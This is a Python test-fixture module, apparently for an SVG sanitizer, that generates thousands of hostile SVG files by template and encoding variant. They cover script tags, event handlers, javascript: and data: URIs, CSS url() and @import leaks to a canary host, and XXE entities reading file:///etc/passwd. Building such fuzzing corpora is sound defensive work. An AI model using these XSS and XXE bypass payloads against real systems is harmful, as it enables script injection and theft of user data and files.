"""Hostile drawings of our own, by kind. ``PWN`` is what script would do, ``URL`` what a load would ask for.

Every template is tried bare, and many in several dressings (prefixes, CDATA, entities, case, encodings). Names tell which is which.
"""

from __future__ import annotations

import base64
from itertools import product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["PWN", "URL", "attacks"]

PWN = "top.pwned=1;window.pwned=1;document.title='pwned'"
URL = "http://canary.test/leak"
SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
XHTML = "http://www.w3.org/1999/xhtml"
OPEN = f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" xmlns:h="{XHTML}" xmlns:ev="http://www.w3.org/2001/xml-events" viewBox="0 0 100 100">'
RECT = '<rect id="r" width="100" height="100"/>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

EVENTS = [
    "onload",
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onfocus",
    "onfocusin",
    "onbegin",
    "onend",
    "onrepeat",
    "onerror",
    "onactivate",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onpointerdown",
    "onpointerover",
    "onwheel",
    "onscroll",
    "onresize",
    "onunload",
    "onabort",
    "oncopy",
    "onkeydown",
    "ontouchstart",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
    "onfocusout",
    "onpageshow",
    "onhashchange",
    "onpopstate",
    "onmessage",
]

SCRIPTS = [
    "<script>{pwn}</script>",
    "<script type='text/javascript'><![CDATA[{pwn}]]></script>",
    "<script href='{url}.js'/>",
    "<script xlink:href='{url}.js'/>",
    "<script xlink:href='data:text/javascript,{pwn}'/>",
    "<h:script>{pwn}</h:script>",
    "<h:script src='{url}.js'/>",
    "<script xmlns='{xhtml}'>{pwn}</script>",
    "<g xmlns='{xhtml}'><script>{pwn}</script></g>",
    "<x:script xmlns:x='{svg}'>{pwn}</x:script>",
    "<SCRIPT>{pwn}</SCRIPT>",
    "<scr<script>ipt>{pwn}</script>",
    "<handler type='application/ecmascript' ev:event='load'>{pwn}</handler>",
    "<listener event='click' handler='javascript:{pwn}'/>",
    "<set attributeName='onmouseover' to='{pwn}'/>",
    "<animate attributeName='onload' values='{pwn}'/>",
    "<foreignObject width='100' height='100'><h:body onload='{pwn}'><h:img src='x' onerror='{pwn}'/></h:body></foreignObject>",
    "<foreignObject width='9' height='9'><h:iframe src='javascript:{pwn}'/></foreignObject>",
    "<foreignObject width='9' height='9'><h:iframe srcdoc='&lt;script>{pwn}&lt;/script>'/></foreignObject>",
    "<foreignObject width='9' height='9'><h:object data='{url}'/><h:embed src='{url}'/></foreignObject>",
    "<foreignObject><iframe xmlns='{xhtml}' src='{url}'/></foreignObject>",
    "<h:iframe src='{url}'/><h:img src='{url}'/><h:video src='{url}' autoplay='autoplay'/><h:audio src='{url}'/>",
    "<h:link rel='stylesheet' href='{url}'/><h:meta http-equiv='refresh' content='0;url={url}'/><h:base href='{url}'/>",
    "<iframe src='{url}'/><embed src='{url}'/><object data='{url}'/><video src='{url}'/><audio src='{url}'/>",
    "<switch><foreignObject><h:script>{pwn}</h:script></foreignObject><rect/></switch>",
    "<title><h:script>{pwn}</h:script></title>",
    "<desc><h:img src='x' onerror='{pwn}'/></desc>",
    "<metadata><h:script>{pwn}</h:script></metadata>",
    "<metadata><limner xmlns='https://limner.dev/ns#'><entry key='a'><script xmlns='{svg}'>{pwn}</script></entry></limner></metadata>",
    "<metadata><limner xmlns='https://limner.dev/ns#'><entry key='a' onclick='{pwn}'>&lt;img src=x onerror={pwn}&gt;</entry></limner></metadata>",
    "<metadata><limner xmlns='https://limner.dev/ns#'><entry key='a&quot;&gt;&lt;img src=x onerror={pwn}&gt;'>v</entry></limner></metadata>",
    "<?xml-stylesheet href='{url}.css'?>",
    '<?x ><img src=x onerror="{pwn}">?>',
    '<!-- --!><img src=x onerror="{pwn}"> -->',
    '<!--><img src=x onerror="{pwn}">-->',
    '<!---><img src=x onerror="{pwn}">-->',
    '<![CDATA[<img src=x onerror="{pwn}">]]>',
    '<![CDATA[><img src=x onerror="{pwn}">]]>',
    '<text><![CDATA[<img src=x onerror="{pwn}">]]></text>',
    '<title><![CDATA[</title><img src=x onerror="{pwn}">]]></title>',
    '<desc>&lt;img src=x onerror="{pwn}"&gt;</desc>',
    '<desc><![CDATA[<svg><style><img src=x onerror="{pwn}">]]></desc>',
    '<style><![CDATA[</style><img src=x onerror="{pwn}">]]></style>',
    '<style>&lt;/style&gt;&lt;img src=x onerror="{pwn}"&gt;</style>',
    '<style>a{{}}&lt;img src=x onerror="{pwn}"&gt;</style>',
    '<style>&lt;!--&lt;/style&gt;&lt;img src=x onerror="{pwn}"&gt;--></style>',
    "<style title='&lt;/style>&lt;img src=x onerror=\"{pwn}\">'>.a{{fill:red}}</style>",
    "<text aria-label='&lt;/text>&lt;/svg>&lt;img src=x onerror=&quot;{pwn}&quot;>'>t</text>",
    "<g id='&quot;>&lt;img src=x onerror={pwn}>'/>",
    "<g class='`&quot;&#10;&gt;&lt;img src=x onerror={pwn}&gt;'/>",
    "<p/><img src='x' onerror='{pwn}'/>",
    "<mglyph/><math xmlns='http://www.w3.org/1998/Math/MathML'><mtext><h:img src='x' onerror='{pwn}'/></mtext></math>",
    "<math xmlns='http://www.w3.org/1998/Math/MathML' href='javascript:{pwn}'><mi>x</mi></math>",
    "<noscript><p title='&lt;/noscript>&lt;img src=x onerror={pwn}>'/></noscript>",
    "<textarea><h:img src='x' onerror='{pwn}'/></textarea>",
    "<font color='red'/><b/><h:details open='open' ontoggle='{pwn}'/>",
    "<template><script>{pwn}</script></template>",
    "<a xmlns='{xhtml}' href='javascript:{pwn}'>x</a>",
    "<discard begin='0s' onbegin='{pwn}'/>",
    "<tref xlink:href='{url}#x'/>",
    "<altGlyph xlink:href='{url}#x'/><glyphRef xlink:href='{url}#x'/>",
    "<font-face><font-face-src><font-face-uri xlink:href='{url}#x'/></font-face-src></font-face><text font-family='x'>x</text>",
    "<color-profile xlink:href='{url}' name='x'/><cursor xlink:href='{url}' id='c'/>",
    "<hatch xlink:href='{url}#h'/><meshgradient href='{url}#m'/><solidcolor/>",
]

LINKED = ["use", "image", "feImage", "textPath", "linearGradient", "radialGradient", "pattern", "filter", "mpath", "a", "animate", "set",
          "mask", "clipPath", "marker", "symbol", "tref", "cursor", "script", "style", "g", "text", "tspan", "view"]  # fmt: skip
TARGETS = [
    "{url}",
    "{url}#x",
    "//canary.test/leak",
    "/leak",
    "leak.svg#x",
    "?leak",
    "",
    " #r",
    "javascript:{pwn}",
    "JaVaScRiPt:{pwn}",
    "java&#10;script:{pwn}",
    " &#1;javascript:{pwn}",
    "javascript&#58;{pwn}",
    "&#x6A;avascript:{pwn}",
    "vbscript:{pwn}",
    "data:text/html,&lt;script>{pwn}&lt;/script>",
    "data:image/svg+xml,&lt;svg xmlns='{svg}' onload='{pwn}' id='x'/>#x",
    "data:image/svg+xml;base64,{nested}",
    "data:image/png;base64,{nested}",
    "data:image/png,&lt;svg xmlns='{svg}' onload='{pwn}'/>",
    "data:;base64,{nested}",
    "data:application/xhtml+xml,&lt;script xmlns='{xhtml}'>{pwn}&lt;/script>",
    "blob:{url}",
    "file:///etc/passwd",
    "ftp://canary.test/leak",
    "ws://canary.test/leak",
    "\\\\canary.test\\leak",
    "http:canary.test/leak",
    "#r&#10;http://canary.test/leak",
]
STYLES = [
    "fill:url({url})", "fill:url('{url}#x')", 'fill:url("{url}")', "fill:url( {url} )", "fill:u\\72l({url})", "fill:\\75\\72\\6c({url})",
    "fill:URL({url})", "fill:url(\n{url})", "fill:url(/**/{url})", "fill:url({url}", "fill:url('{url}", "filter:url({url}#f)",
    "mask:url({url}#m)", "mask-image:url({url})", "-webkit-mask-image:url({url})", "-webkit-mask:url({url})", "mask:url({url}),url(#r)",
    "mask-border-source:url({url})", "-webkit-mask-box-image:url({url})", "clip-path:url({url}#c)", "marker:url({url}#m)",
    "marker-start:url({url}#m)", "stroke:url({url}#s)", "cursor:url({url}),auto", "cursor:url(#r),auto", "background:url({url})",
    "background:url(#r)", "background-image:url({url})", "background-image:url('#r')", "background:image-set('{url}' 1x)",
    "background-image:-webkit-image-set(url({url}) 1x)", "background:image('{url}')", "background:src('{url}')",
    "background:cross-fade(url({url}),red)", "background:-webkit-cross-fade(url({url}),url({url}),50%)", "background:element(#r)",
    "background:paint(x)", "border-image:url({url}) 1", "border-image-source:url({url})", "list-style:url({url})",
    "list-style-image:url({url});display:list-item", "content:url({url})", "content:image-set('{url}' 1x)", "shape-outside:url({url})",
    "offset-path:url({url}#p)", "offset-path:url(#r)", "-moz-binding:url({url}#x)", "behavior:url({url})", "width:expression({pwn})",
    "--a:url({url});background:var(--a)", "--a:{url};background:url(var(--a))", "--u:image-set('{url}' 1x);background:var(--u)",
    "fill:var(--x,url({url}))", "fill:image-set('{url}' 1x)", "filter:blur(1px) url({url}#f)", "filter:drop-shadow(0 0 url({url}))",
    "font:12px x;src:url({url})", "@import '{url}'", "}}@import '{url}';{{", "fill:red;}}*{{background:url({url})", "fill:url(#r)url({url})",
    "fill:url(#r);background:url({url})", "fill:red/*;*/;background:/**/url({url})", "fill:'\\';background:url({url})",
    'fill:"\\\n";background:url({url})', "font-family:'x;background:url({url})", "font-family:x\\;background:url({url})",
    "fill:\\;background:url({url})", "fill:(;background:url({url})", "fill:[;background:url({url})", "fill:{{;}}background:url({url})",
    "background:attr(x type(<url>))", "background:url({url} x)", "background:\\000075rl({url})", "background:u\\\nrl({url})",
    "ba\\63kground:url({url})", "BACKGROUND:URL({url})", "background:uRl({url})", "all:unset;background:url({url})",
    "animation:x 1s;background:url({url})", "fill:context-fill url({url})", "fill:url(#r?{url})", "fill:url('#r\\0a{url}')",
    "mask-image:linear-gradient(red,blue),url({url})", "-webkit-box-reflect:below 0 url({url})", "image-rendering:url({url})",
    "stroke:env(x,url({url}))", "fill:if(else:url({url}))", "d:path('M0 0');background:url({url})",
]  # fmt: skip
SHEETS = [
    "@import '{url}';", "@import url({url});", "@\\69mport '{url}';", "@IMPORT '{url}';", "@import/**/'{url}';", '@import "{url}" screen;',
    "@charset 'utf-8';@import '{url}';", "@namespace x '{url}';@import '{url}';", "/**/@import '{url}';", "<!-- @import '{url}'; -->",
    "@layer a;@import '{url}';", "@import '{url}' layer(a);", "@font-face{{font-family:x;src:url({url})}}text{{font-family:x}}",
    "@font-face{{font-family:x;src:url({url}) format('woff2')}}*{{font-family:x}}", "@font-face{{font-family:x;src:local(x),url('{url}')}}text{{font:9px x}}",
    "@media all{{@import '{url}';}}", "@media all{{rect{{background:url({url})}}}}", "@supports (fill:red){{*{{background:url({url})}}}}",
    "@page{{background:url({url})}}", "@property --x{{syntax:'<url>';inherits:true;initial-value:url({url})}}*{{background:var(--x)}}",
    "@counter-style x{{system:cyclic;symbols:url({url})}}*{{list-style:x;display:list-item}}",
    "@keyframes k{{from{{background:url({url})}}to{{background:url({url})}}}}*{{animation:k 1s infinite}}",
    "@keyframes k{{0%{{fill:url({url})}}100%{{filter:url({url}#x)}}}}rect{{animation:k 1s}}",
    "@container (width>0){{*{{background:url({url})}}}}", "@scope (svg){{*{{background:url({url})}}}}", "@starting-style{{*{{background:url({url})}}}}",
    "@view-transition{{navigation:auto}}", "@color-profile x{{src:url({url})}}", "@font-feature-values x{{@swash{{a:1}}}}",
    "svg{{& rect{{background:url({url})}}}}", "svg{{rect{{background:url({url})}}}}", "rect::before{{content:url({url})}}",
    "rect{{fill:red}}}}*{{background:url({url})}}", "rect{{fill:'}}*{{background:url({url})}}'}}", "a[x='{{}}*{{background:url({url})}}']{{fill:red}}",
    'a[x="\\"]{{}}*{{background:url({url})}}"]{{fill:red}}', "\\*{{}}*{{background:url({url})}}", "*{{/*}}*{{*/background:url({url})}}",
    "/*\\*/*{{background:url({url})}}/**/", "*{{background:url(/*){url}*/)}}", "*{{--x:{{background:url({url})}}}}", "*{{fill:red;{{}}background:url({url})}}",
    "*{{fill:red\\}}background:url({url})}}", '*{{font-family:"\n}}*{{background:url({url})}}"}}', 'x:is("\\\n"){{}}*{{background:url({url})}}',
    "@media x{{}}}}*{{background:url({url})}}", "@unknown{{*{{background:url({url})}}}}", "@unknown (;*{{background:url({url})}}",
    "</style><script>{pwn}</script>", "]]><script>{pwn}</script>", "@\n import '{url}';", "@import\\20'{url}';", "\\@import '{url}';@import '{url}';",
    ':root{{background:image-set("{url}" 1x)}}', "svg{{cursor:image-set('{url}' 1x),auto}}", "@import'{url}';", '@import url( "{url}" );',
]  # fmt: skip
URL_ATTRIBUTES = ["fill", "stroke", "filter", "mask", "clip-path", "marker-start", "marker-mid", "marker-end", "marker", "cursor", "color",
                  "font-family", "stop-color", "flood-color", "lighting-color", "background", "clip", "src", "action", "data", "poster", "srcset",
                  "formaction", "ping", "d", "transform", "points", "color-profile", "enable-background", "text-decoration", "offset-path", "path",
                  "mask-image", "in", "result", "begin", "to", "values", "xml:base", "externalResourcesRequired", "systemLanguage", "content"]  # fmt: skip
URL_VALUES = ["url({url})", "url('{url}#x')", "u\\72l({url})", "url(#r) url({url})", "image-set('{url}' 1x)", "{url}", "javascript:{pwn}", "src('{url}')",
              'url("{url}"), red', "\\75rl( {url} )", "url({url}", "red;background:url({url})", "var(--x, url({url}))"]  # fmt: skip


def _fill(template: str) -> str:
    nested = base64.b64encode(
        f'<svg xmlns="{SVG}" onload="{PWN}"><script>{PWN}</script><image href="{URL}"/></svg>'.encode()
    ).decode()
    return template.format(pwn=PWN, url=URL, svg=SVG, xhtml=XHTML, nested=nested)


def _attribute(value: str) -> str:
    return value.replace('"', "&quot;").replace("<", "&lt;") if '"' in value else value.replace("<", "&lt;")


def _drawing(body: str) -> str:
    return f"{OPEN}{RECT}{body}</svg>"


def _bodies() -> Iterator[tuple[str, str]]:
    for index, template in enumerate(SCRIPTS):
        yield f"markup-{index}", _drawing(_fill(template))
    for event in EVENTS:
        yield f"event-{event}-root", OPEN.replace(" viewBox", f' {event}="{PWN}" viewBox') + RECT + "</svg>"
        yield f"event-{event}-shape", _drawing(f'<rect id="e" tabindex="0" width="50" height="50" {event}="{PWN}"/>')
        yield (
            f"event-{event}-animate",
            _drawing(f'<rect><animate attributeName="x" to="9" dur="0.01s" {event}="{PWN}"/></rect>'),
        )
        yield (
            f"event-{event}-spelt",
            _drawing(
                f'<rect {event.upper()}="{PWN}" {event.title()}="{PWN}" xlink:{event}="{PWN}" h:{event}="{PWN}"/>'
            ),
        )
    for element, (index, target) in product(LINKED, enumerate(TARGETS)):
        link = _fill(target).replace('"', "&quot;")
        inner = f'<{element} width="9" height="9" href="{link}" xlink:href="{link}" attributeName="x" to="1"><tspan>x</tspan></{element}>'
        wrapped = {
            "feImage": f'<filter id="f">{inner}</filter><rect width="9" height="9" filter="url(#f)"/>',
            "textPath": f"<text>{inner}</text>",
            "mpath": f'<rect><animateMotion dur="1s">{inner}</animateMotion></rect>',
            "a": f'<a id="click" href="{link}" xlink:href="{link}"><rect width="100" height="100"/></a>',
            "pattern": f'{inner}<rect width="9" height="9" fill="url(#p)"/>',
        }
        yield f"link-{element}-{index}", _drawing(wrapped.get(element, inner))
        if element in ("a", "use", "image"):
            animated = f'<{element} id="click" href="#r" width="9" height="9"><rect width="50" height="50"/>'
            for name in ("href", "xlink:href", "HREF", " href", "href&#10;"):
                yield (
                    f"smil-{element}-{index}-{name}",
                    _drawing(
                        f'{animated}<set attributeName="{name}" to="{link}"/>'
                        f'<animate attributeName="{name}" values="#r;{link}" from="{link}" to="{link}" by="{link}" dur="0.01s" fill="freeze"/></{element}>'
                    ),
                )
    for index, style in enumerate(STYLES):
        text = _fill(style)
        yield f"style-attribute-{index}", _drawing(f'<rect width="9" height="9" style="{_attribute(text)}"/>')
        yield f"style-root-{index}", OPEN.replace(" viewBox", f' style="{_attribute(text)}" viewBox') + RECT + "</svg>"
        escaped = text.replace("&", "&amp;").replace("<", "&lt;")
        yield f"style-rule-{index}", _drawing(f"<style>svg,rect{{{escaped}}}</style>")
        yield (
            f"style-animate-{index}",
            _drawing(f'<rect width="9" height="9"><set attributeName="style" to="{_attribute(text)}"/></rect>'),
        )
        yield f"style-cdata-{index}", _drawing(f"<style><![CDATA[svg,rect{{{text}}}]]></style>")
    for index, sheet in enumerate(SHEETS):
        text = _fill(sheet)
        escaped = text.replace("&", "&amp;").replace("<", "&lt;")
        yield f"sheet-{index}", _drawing(f"<style>{escaped}</style><text>x</text>")
        yield (
            f"sheet-cdata-{index}",
            _drawing(f"<style type='text/css'><![CDATA[{text.replace(']]>', '')}]]></style><text>x</text>"),
        )
        yield (
            f"sheet-split-{index}",
            _drawing(
                f"<style>{escaped[: len(escaped) // 2]}<!-- c -->{escaped[len(escaped) // 2 :]}</style><text>x</text>"
            ),
        )
        yield f"sheet-html-{index}", _drawing(f"<h:style>{escaped}</h:style><text>x</text>")
    for name, value in product(URL_ATTRIBUTES, URL_VALUES):
        written = _attribute(_fill(value))
        yield (
            f"attribute-{name}-{URL_VALUES.index(value)}",
            _drawing(f'<text x="9" y="9" {name}="{written}">x<tspan {name}="{written}">y</tspan></text>'),
        )
        yield (
            f"shape-{name}-{URL_VALUES.index(value)}",
            _drawing(
                f'<path style="" d="M0 0h9v9" {name}="{written}"/>'.replace(
                    'style="" d="M0 0h9v9"', "" if name == "d" else 'd="M0 0h9v9"'
                )
            ),
        )
        if name in ("fill", "filter", "mask", "cursor", "marker-start"):
            yield (
                f"smil-{name}-{URL_VALUES.index(value)}",
                _drawing(
                    f'<path d="M0 0h9v9"><set attributeName="{name}" to="{written}"/><animate attributeName="{name}" values="none;{written}" dur="0.01s" fill="freeze"/></path>'
                ),
            )


def _doctypes() -> Iterator[tuple[str, str]]:
    doctypes = {
        "attlist": f'<!ATTLIST svg onload CDATA "{PWN}">',
        "attlist-rect": f'<!ATTLIST rect onclick CDATA "{PWN}" fill CDATA "url({URL})">',
        "entity-script": f"<!ENTITY x \"<script xmlns='{SVG}'>{PWN}</script>\">",
        "entity-text": '<!ENTITY x "&#60;script>' + PWN + '&#60;/script>">',
        "entity-external": f'<!ENTITY x SYSTEM "{URL}">',
        "entity-file": '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "entity-parameter": f'<!ENTITY % p SYSTEM "{URL}"> %p;',
        "entity-parameter-inline": f"<!ENTITY % p '<!ENTITY x SYSTEM \"{URL}\">'> %p;",
        "notation": f'<!NOTATION n SYSTEM "{URL}"><!ENTITY y SYSTEM "{URL}" NDATA n><!ENTITY x "t">',
        "element": "<!ELEMENT svg ANY><!ENTITY x 'y'>",
        "comment": f"<!-- ><img src=x onerror=\"{PWN}\"> --><!ENTITY x 'y'>",
        "pi": f"<?x ><img src=x onerror=\"{PWN}\">?><!ENTITY x 'y'>",
        "namespace": f"<!ATTLIST g xmlns CDATA \"{XHTML}\"><!ENTITY x '<g><script>{PWN}</script></g>'>",
        "entity-attribute": f"<!ENTITY x 'url({URL})'>",
        "entity-scheme": f"<!ENTITY x 'javascript:{PWN}'>",
    }
    for name, inside in doctypes.items():
        yield f"doctype-{name}", f"<!DOCTYPE svg [{inside}]>{OPEN}{RECT}<text>&x;</text><g>&x;</g></svg>"
        yield (
            f"doctype-{name}-attribute",
            f"<!DOCTYPE svg [{inside}]>{OPEN}<a id='click' href='&x;' fill='&x;'>{RECT}</a></svg>",
        )
        yield f"doctype-{name}-silent", f"<!DOCTYPE svg [{inside}]>{OPEN}{RECT}</svg>"
    yield "doctype-external", f'<!DOCTYPE svg SYSTEM "{URL}">{OPEN}{RECT}</svg>'
    yield "doctype-html", f"<!DOCTYPE html>{OPEN}<script>{PWN}</script></svg>"
    yield "doctype-quoted", f"<!DOCTYPE svg PUBLIC '><img src=x onerror={PWN}>' 'x'>{OPEN}{RECT}</svg>"
    for kind in ("xml-stylesheet", "xml-stylesheet type='text/xsl'"):
        yield f"pi-{kind}", f"<?{kind} href='{URL}'?>{OPEN}{RECT}</svg>"
        yield f"pi-data-{kind}", f"<?{kind} href='data:text/xsl,%3Cx/%3E'?>{OPEN}{RECT}</svg>"
    yield (
        "late-prefix",
        f'<z:svg xmlns:z="{SVG}"><z:script>{PWN}</z:script><z:g xmlns:z="{XHTML}"><z:script>{PWN}</z:script></z:g></z:svg>',
    )
    yield "no-namespace", f"<svg onload='{PWN}'><script>{PWN}</script><image href='{URL}'/></svg>"
    yield "xhtml-root", f'<html xmlns="{XHTML}"><svg xmlns="{SVG}"/><script>{PWN}</script></html>'
    yield (
        "xsl-root",
        f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><svg xmlns="{SVG}"/></xsl:template></xsl:stylesheet>',
    )
    yield "after-root", f"{OPEN}{RECT}</svg><script>{PWN}</script>"
    yield "after-root-pi", f"{OPEN}{RECT}</svg><?x ><img src=x onerror={PWN}>?>"
    yield "before-root", f"<script>{PWN}</script>{OPEN}{RECT}</svg>"
    yield "nested-html-break", f"{OPEN}<g><p>x</p><img src='x' onerror='{PWN}'/></g></svg>"
    yield "unclosed", f"{OPEN}<style><img src=x onerror='{PWN}'>"
    yield (
        "mglyph",
        f"{OPEN}<desc><h:table><h:tr><style><img src='x' onerror='{PWN}'/></style></h:tr></h:table></desc></svg>",
    )


def attacks() -> Iterator[tuple[str, bytes]]:
    """Yield name and bytes of every attack."""
    plain = [*_bodies(), *_doctypes()]
    for name, text in plain:
        yield name, text.encode()
    for name, text in plain[::7]:
        yield f"{name}+utf16", b"\xff\xfe" + text.encode("utf-16-le")
        yield f"{name}+utf16-bare", text.encode("utf-16-be")
        yield (
            f"{name}+utf7",
            b'<?xml version="1.0" encoding="utf-7"?>' + text.replace("<script", "+ADw-script").encode(),
        )
        yield (
            f"{name}+prefix",
            text.replace("<", "<s:")
            .replace("<s:/", "</s:")
            .replace("<s:!", "<!")
            .replace("<s:?", "<?")
            .replace("<s:h:", "<h:")
            .replace("</s:h:", "</h:")
            .replace(f'xmlns="{SVG}"', f'xmlns:s="{SVG}"')
            .encode(),
        )
        yield f"{name}+nul", text.replace("script", "scr\x00ipt").replace("href", "hr\x00ef").encode()
        yield (
            f"{name}+upper",
            text.replace("<script", "<SCRIPT")
            .replace("</script", "</SCRIPT")
            .replace("href=", "HREF=")
            .replace("style=", "STYLE=")
            .encode(),
        )
        yield f"{name}+declared", b'<?xml version="1.1" encoding="iso-8859-1" standalone="yes"?>' + text.encode()
        yield f"{name}+junk", b"\xef\xbb\xbf \n" + text.encode() + b"\n<!-- tail -->"
